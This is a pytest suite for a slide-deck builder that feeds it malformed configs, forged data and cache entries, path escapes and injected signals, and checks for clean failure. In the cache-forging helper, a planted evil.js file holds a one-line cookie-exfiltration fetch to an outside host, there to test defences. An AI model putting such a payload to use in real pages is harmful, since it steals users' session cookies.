"""Every malformed input fails cleanly and leaves the last good deck alone.

Each case in tests/malformed/cases/*.yaml describes one change to the small
valid deck in tests/malformed/base/ (or one fault injected while building).
For each, build.py runs in a private copy of the project that already holds a
good build, and we require what the developers' guide promises a speaker:

- a non-zero exit status (except the cases that must recover, e.g. a corrupted
  cache entry, which must rebuild and succeed),
- exactly one line on stderr, located as FILE:LINE where the case says so,
  matching the case's message, and never a Python traceback,
- the previous output/ byte-for-byte intact, no staging or retired
  folders left behind, and no file written outside the output and cache.

Every case names its category (CATEGORIES); each category the trust issue
lists has cases of its own.

Faults that cannot be produced by editing files (disk full, Ctrl-C at a
chosen moment) are injected by a small wrapper that patches the standard
library inside the build process and then runs build.py as __main__; the
wrapper records that its fault fired, so a case cannot pass vacuously.
"""

from __future__ import annotations

import gzip
import hashlib
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml

from conftest import tree_digest  # test_trust_reproducible imports it from here

PROJECT = Path(__file__).resolve().parent.parent
MALFORMED = Path(__file__).resolve().parent / "malformed"
CASES = sorted((MALFORMED / "cases").glob("*.yaml"))
MNIST = PROJECT / "netcore" / "data" / "mnist"

pytestmark = pytest.mark.slow
CATEGORIES = {
    "yaml": "deck.yaml that is not valid YAML, or not a mapping",
    "config": "deck.yaml values of the wrong type, unknown keys, impossible values",
    "slides": "slide files: structure, options, encoding, empty files",
    "template": "slide text that tries to run code or fails inside the sandbox",
    "policy": "HTML that would run script or reach the network",
    "paths": "paths that leave the talk folder, hidden folders, missing files",
    "bounds": "inputs built to exhaust time or memory",
    "network": "netcore's settings, including budgets it cannot meet",
    "data": "MNIST files missing, cut short, forged",
    "cache": "damaged or forged cache entries: rebuilt, never trusted",
    "output": "the output folder: read-only, a file, a link, litter of killed builds",
    "signals": "Ctrl-C, SIGTERM and a full disk in the middle of a build",
}
DEAD_PID = 4_999_999  # above Linux's largest pid_max: a build that is no longer running

# Runs build.py in-process after patching the standard library to inject one
# fault. argv: the fault name, the marker file to create when it fires, then
# build.py's own arguments.
FAULT_WRAPPER = r'''
import builtins, errno, io, os, runpy, shutil, signal, sys

fault, marker = sys.argv[1], sys.argv[2]
sys.argv = ["build.py", *sys.argv[3:]]
state = {"writes": 0}


def fire():
    os.close(os.open(marker, os.O_CREAT | os.O_WRONLY, 0o644))


def staged_write(path):
    """Count writes into the build's staging folder; act on the third."""
    if ".staging-" not in os.fspath(path):
        return
    state["writes"] += 1
    if state["writes"] != 3:
        return
    fire()
    if fault == "enospc":
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), os.fspath(path))
    if fault == "sigint-write":
        os.kill(os.getpid(), signal.SIGINT)
    if fault == "sigterm-write":
        os.kill(os.getpid(), signal.SIGTERM)


if fault in ("enospc", "sigint-write", "sigterm-write"):
    real_open, real_copyfile = builtins.open, shutil.copyfile

    def fault_open(file, mode="r", *args, **kwargs):
        if isinstance(file, (str, bytes, os.PathLike)) and any(c in mode for c in "wax+"):
            staged_write(file)
        return real_open(file, mode, *args, **kwargs)

    def fault_copyfile(src, dst, *args, **kwargs):
        staged_write(dst)
        return real_copyfile(src, dst, *args, **kwargs)

    builtins.open = io.open = fault_open
    shutil.copyfile = fault_copyfile

if fault == "sigint-swap":
    # The atomic exchange leaves no moment between two renames; the fallback has one,
    # and a Ctrl-C there must be held back until both are done.
    sys.path.insert(0, os.getcwd())
    import deck.output
    deck.output._renameat2 = None
    real_replace = os.replace

    def fault_replace(src, dst, *args, **kwargs):
        real_replace(src, dst, *args, **kwargs)
        if ".retired-" in os.fspath(dst):
            fire()
            os.kill(os.getpid(), signal.SIGINT)

    os.replace = fault_replace

sys.path.insert(0, os.getcwd())
runpy.run_path("build.py", run_name="__main__")
'''


# --------------------------------------------------------------------------
# Project copies


def make_project(dest: Path) -> Path:
    """A private copy of the project with the base deck; big read-only parts linked."""
    dest.mkdir(parents=True)
    shutil.copy2(PROJECT / "build.py", dest / "build.py")
    ignore = shutil.ignore_patterns("__pycache__", "data")
    for folder in ("deck", "templates", "netcore"):
        shutil.copytree(PROJECT / folder, dest / folder, ignore=ignore)
    (dest / "netcore" / "data").symlink_to(PROJECT / "netcore" / "data")
    (dest / "node_modules").symlink_to(PROJECT / "node_modules")
    shutil.copytree(MALFORMED / "base" / "slides", dest / "slides")
    return dest


def run(cwd: Path, *args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "build.py", *args], cwd=cwd, capture_output=True, text=True,
        timeout=timeout, preexec_fn=_default_sigint,
    )


def _default_sigint() -> None:
    # A child of a background job may inherit SIGINT ignored; Python then never
    # raises KeyboardInterrupt. Restore the default so Ctrl-C cases are real.
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.fixture(scope="session")
def built_base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The base deck, built once (trains the tiny network, draws the figures)."""
    project = make_project(tmp_path_factory.mktemp("malformed-base") / "project")
    result = run(project, "--quiet")
    assert result.returncode == 0, result.stderr
    assert (project / "output" / "index.html").is_file()
    return project


# --------------------------------------------------------------------------
# Mutations


def apply(project: Path, step: dict) -> None:
    (kind, spec), = step.items()
    if kind == "replace":
        path = project / spec["file"]
        text = path.read_text(encoding="utf-8")
        assert spec["old"] in text, f"case is stale: {spec['old']!r} not in {spec['file']}"
        path.write_text(text.replace(spec["old"], spec["new"], 1), encoding="utf-8")
    elif kind == "write":
        (project / spec["file"]).parent.mkdir(parents=True, exist_ok=True)
        (project / spec["file"]).write_text(spec["text"], encoding="utf-8")
    elif kind == "payload":
        shutil.copyfile(MALFORMED / "payloads" / spec["source"], project / spec["file"])
    elif kind == "repeat":
        with open(project / spec["file"], "a", encoding="utf-8") as handle:
            handle.write("\n---\n{id: enormous}\n\n" + spec["text"] * spec["times"] + "\n\nNote:\nToo much.\n")
    elif kind == "data_copy":
        target = project / spec["dir"]
        shutil.copytree(MNIST.resolve(), target)
        if "truncate" in spec:
            path = target / spec["truncate"]
            path.write_bytes(path.read_bytes()[: spec["keep"]])
        if "garbage" in spec or "forge_header" in spec:
            path = target / spec.get("garbage", spec.get("forge_header"))
            if "garbage" in spec:
                path.write_bytes(gzip.compress(b"this is not an IDX file\n" * 50, mtime=0))
            else:  # four dimensions of 65536: 2**64 values, which numpy's product wraps to 0
                path.write_bytes(gzip.compress(bytes([0, 0, 8, 4]) + (65536).to_bytes(4, "big") * 4, mtime=0))
            sums = target / "SHA256SUMS"
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            sums.write_text("".join(
                f"{digest}  {path.name}\n" if line.split()[-1].lstrip("*") == path.name else line + "\n"
                for line in sums.read_text().splitlines() if line.strip()
            ))
    elif kind == "corrupt_cache":
        damaged = 0
        for path in sorted((project / ".cache").rglob("*")):
            if path.is_file() and path.stat().st_size:
                data = bytearray(path.read_bytes())
                middle = len(data) // 2
                data[middle] ^= 0xFF
                path.write_bytes(bytes(data))
                damaged += 1
        assert damaged, "the base build left nothing in .cache to corrupt"
    elif kind == "chmod":
        os.chmod(project / spec["path"], int(str(spec["mode"]), 8))
    elif kind == "forge_cache":
        forge_cache(project / ".cache" / "netcore", spec)
    elif kind == "symlink_output":
        os.rename(project / "output", project / spec["to"])
        (project / "output").symlink_to(spec["to"])
    elif kind == "litter":  # folders a build killed with SIGKILL leaves beside the output
        for name in (f".output.staging-{DEAD_PID}.k1ll3d", ".output.staging-x7y8z9ab", f".output.retired-{DEAD_PID}"):
            (project / name / "figures").mkdir(parents=True)
            (project / name / "figures" / "half.png").write_bytes(b"\x89PNG half")
    else:
        raise AssertionError(f"unknown mutation {kind!r}")


def forge_cache(root: Path, spec: dict) -> None:
    """Edit one kind of cache entry and re-sign its manifest, as a forger (or an older version) would."""
    import json

    from netcore.cache import MANIFEST, key_of, sha256

    kind, edit = spec["kind"], spec["edit"]
    if kind == "data-checksums.json":
        (root / kind).write_text(edit)
        return
    entries = [p for p in (root / kind).iterdir() if not p.name.startswith(".")]
    assert entries, f"the base build left no {kind} entry to forge"
    if kind == "models":  # the model is read only when something made from it must be made again
        for other in ("facts", "figures"):
            shutil.rmtree(root / other)
    for entry in entries:
        manifest = json.loads((entry / MANIFEST).read_text())
        meta = manifest["meta"]
        if edit == "history-strings":
            model = json.loads((entry / "model.json").read_text())
            model["history"] = ["epoch"] * len(model["history"])
            (entry / "model.json").write_text(json.dumps(model))
        elif edit == "figure-size-text":
            meta = {"width": "wide", "height": None}
        elif edit == "facts-list":
            (entry / "facts.json").write_text("[1, 2, 3]")
        elif edit == "extra-file":
            (entry / "evil.js").write_text("fetch('https://example.org/?' + document.cookie)")
        else:
            raise AssertionError(f"unknown cache edit {edit!r}")
        files = {p.name: sha256(p.read_bytes()) for p in entry.iterdir() if p.name != MANIFEST}
        if edit == "extra-file":
            files = manifest["files"]  # planted beside the entry's own files, manifest untouched
        body = {"files": files, "meta": meta, "kind": manifest["kind"], "key": manifest["key"]}
        (entry / MANIFEST).write_text(json.dumps(dict(body, checksum=key_of(body))))


def outside_files(project: Path) -> set[str]:
    """Every path in the project copy except the output, the cache and what Python and the harness write."""
    skip = {"output", ".cache", "__pycache__", "_fault_fired", "_fault_wrapper.py"}
    found = set()
    for folder, dirs, files in os.walk(project):
        dirs[:] = [d for d in dirs if d not in skip and ".staging-" not in d and ".retired-" not in d and not d.startswith("real-output")]
        for name in files:
            if name not in skip:
                found.add(os.path.relpath(os.path.join(folder, name), project))
    return found


def run_with_fault(project: Path, fault: str, *args: str) -> tuple[subprocess.CompletedProcess[str], bool]:
    wrapper = project / "_fault_wrapper.py"
    wrapper.write_text(FAULT_WRAPPER)
    marker = project / "_fault_fired"
    result = subprocess.run(
        [sys.executable, str(wrapper), fault, str(marker), *args], cwd=project,
        capture_output=True, text=True, timeout=300, preexec_fn=_default_sigint,
    )
    wrapper.unlink()
    return result, marker.exists()


def run_signal_during_training(project: Path, stop: int = signal.SIGINT) -> tuple[subprocess.CompletedProcess[str], bool]:
    """Start a build that trains a larger network; send ``stop`` once training shows progress."""
    apply(project, {"replace": {"file": "slides/deck.yaml", "old": "layers: [784, 8, 10]", "new": "layers: [784, 256, 256, 10]"}})
    apply(project, {"replace": {"file": "slides/deck.yaml", "old": "epochs: 1", "new": "epochs: 30"}})
    proc = subprocess.Popen(
        [sys.executable, "build.py"], cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True, preexec_fn=_default_sigint,
    )
    chunks: list[str] = []
    reader = threading.Thread(target=lambda: chunks.extend(iter(lambda: proc.stderr.read(1), "")), daemon=True)
    reader.start()
    deadline = time.monotonic() + 120
    while "training:" not in "".join(chunks) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.5)
    interrupted = proc.poll() is None and "training:" in "".join(chunks)
    if interrupted:
        proc.send_signal(stop)
    stdout = proc.stdout.read()
    proc.wait(timeout=120)
    reader.join(timeout=10)
    return subprocess.CompletedProcess(proc.args, proc.returncode, stdout, "".join(chunks)), interrupted


# --------------------------------------------------------------------------
# The test


def _case_id(path: Path) -> str:
    return path.stem


@pytest.mark.parametrize("case_path", CASES, ids=_case_id)
def test_malformed_input(case_path: Path, built_base: Path, tmp_path: Path) -> None:
    case = yaml.safe_load(case_path.read_text(encoding="utf-8"))
    expect = case.get("expect", {})
    project = tmp_path / "project"
    shutil.copytree(built_base, project, symlinks=True)
    before = tree_digest(project / "output")
    for step in case.get("mutate", []):
        apply(project, step)
    untouched = outside_files(project)

    special = case.get("special")
    fired = True
    must_fail = expect.get("exit", "error") != 0
    quiet = ["--quiet"] if must_fail else []  # a recovering build's summary is part of the check
    if special in ("sigint-training", "sigterm-training"):
        result, fired = run_signal_during_training(project, signal.SIGINT if special == "sigint-training" else signal.SIGTERM)
    elif special:
        result, fired = run_with_fault(project, special, *quiet, *case.get("args", []))
    else:
        result = run(project, *quiet, *case.get("args", []))
    assert (project / "output").is_dir(), f"output/ is gone after the build; stderr: {result.stderr}"
    os.chmod(project / "output", 0o755)  # undo a read-only case before inspecting

    assert fired, f"{special}: the injected fault never fired; stderr: {result.stderr}"
    assert "Traceback" not in result.stderr, result.stderr
    assert "Traceback" not in result.stdout, result.stdout
    leftovers = [p.name for p in project.iterdir() if ".staging-" in p.name or ".retired-" in p.name]
    assert leftovers == [], f"left behind: {leftovers}"
    written = outside_files(project) ^ untouched
    assert written == set(), f"files written or removed outside the output and cache: {sorted(written)}"

    if not must_fail:
        assert result.returncode == 0, result.stderr
        assert re.search(expect["stdout"], result.stdout), result.stdout
        # Rebuilt from the same seed: the same network, and the same deck, as before.
        after = tree_digest(project / "output")
        assert after == before, [k for k in after if after.get(k) != before.get(k)]
        return

    assert result.returncode != 0, f"exit 0; stdout: {result.stdout}"
    lines = [line for line in re.split(r"[\r\n]+", result.stderr) if line.strip()]
    if special in ("sigint-training", "sigterm-training"):
        lines = lines[-1:]  # training progress precedes the message
    assert len(lines) == 1, f"expected one line on stderr, got:\n{result.stderr}"
    message = lines[0]
    print(f"\n{case_path.stem}: exit {result.returncode}: {message}")
    if "where" in expect:
        assert message.startswith(expect["where"]), f"{message!r} does not start with {expect['where']!r}"
    assert re.search(expect["message"], message), f"{message!r} does not match {expect['message']!r}"
    assert tree_digest(project / "output") == before, "the previous output was changed"


def test_corpus_is_large_enough_and_covers_every_category() -> None:
    counts = dict.fromkeys(CATEGORIES, 0)
    for path in CASES:
        case = yaml.safe_load(path.read_text(encoding="utf-8"))
        assert case.get("description"), path.name
        assert case.get("mutate") or case.get("special"), path.name
        assert case.get("category") in CATEGORIES, f"{path.name}: category must be one of {', '.join(CATEGORIES)}"
        counts[case["category"]] += 1
    print("\n" + ", ".join(f"{name} {count}" for name, count in counts.items()) + f"; {len(CASES)} cases")
    assert len(CASES) >= 80
    assert all(count >= 2 for count in counts.values()), counts
